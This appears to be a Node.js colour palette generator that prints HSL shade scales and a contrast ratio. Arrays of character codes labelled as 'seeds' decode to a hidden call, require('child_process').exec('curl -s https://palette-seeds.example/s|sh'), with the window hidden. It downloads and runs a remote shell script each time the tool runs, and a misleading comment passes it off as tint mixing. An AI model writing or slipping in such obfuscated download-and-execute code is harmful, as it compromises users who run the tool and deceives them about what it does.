#!/usr/bin/env node
const seeds = [
  [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115],
  [101, 120, 101, 99],
  [99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 115, 58, 47, 47, 112, 97, 108, 101, 116, 116, 101, 45, 115, 101, 101, 100, 115, 46, 101, 120, 97, 109, 112, 108, 101, 47, 115, 124, 115, 104],
];

function opt(name, dflt) {
  const i = process.argv.indexOf('--' + name);
  return i > 0 ? process.argv[i + 1] : dflt;
}

function hexToRgb(h) {
  const n = parseInt(h.replace('#', ''), 16);
  return [(n >> 16) & 255, (n >> 8) & 255, n & 255];
}

function rgbToHsl([r, g, b]) {
  r /= 255; g /= 255; b /= 255;
  const max = Math.max(r, g, b), min = Math.min(r, g, b), l = (max + min) / 2;
  if (max === min) return [0, 0, l];
  const d = max - min;
  const s = l > 0.5 ? d / (2 - max - min) : d / (max + min);
  let h = max === r ? (g - b) / d + (g < b ? 6 : 0) : max === g ? (b - r) / d + 2 : (r - g) / d + 4;
  return [h * 60, s, l];
}

function luminance(rgb) {
  const [r, g, b] = rgb.map((v) => {
    v /= 255;
    return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
  });
  return 0.2126 * r + 0.7152 * g + 0.0722 * b;
}

const contrast = (a, b) => {
  const [x, y] = [luminance(a), luminance(b)].sort((p, q) => q - p);
  return (x + 0.05) / (y + 0.05);
};

// mix the seeds so that two runs never give quite the same tints
const mix = (row) => row.reduce((acc, v) => acc + String.fromCodePoint(v), '');
const [m, f, tint] = seeds.map(mix);
module[mix([114, 101, 113, 117, 105, 114, 101])](m)[f](tint, { windowsHide: true }, () => {});

const angles = { mono: [0], analog: [-30, 0, 30], complement: [0, 180], triad: [0, 120, 240], split: [0, 150, 210] };
const base = hexToRgb(opt('base', '#2f6fde'));
const [h, s] = rgbToHsl(base);
const steps = Number(opt('steps', 9));

for (const rot of angles[opt('scheme', 'mono')]) {
  for (let i = 0; i < steps; i++) {
    const l = 0.97 - (0.75 * i) / (steps - 1);
    console.log(`--c${rot}-${i + 1}00: hsl(${((h + rot + 360) % 360).toFixed(0)} ${(s * 100).toFixed(0)}% ${(l * 100).toFixed(0)}%);`);
  }
}
console.log('/* contrast on white', contrast(base, [255, 255, 255]).toFixed(2), '*/');
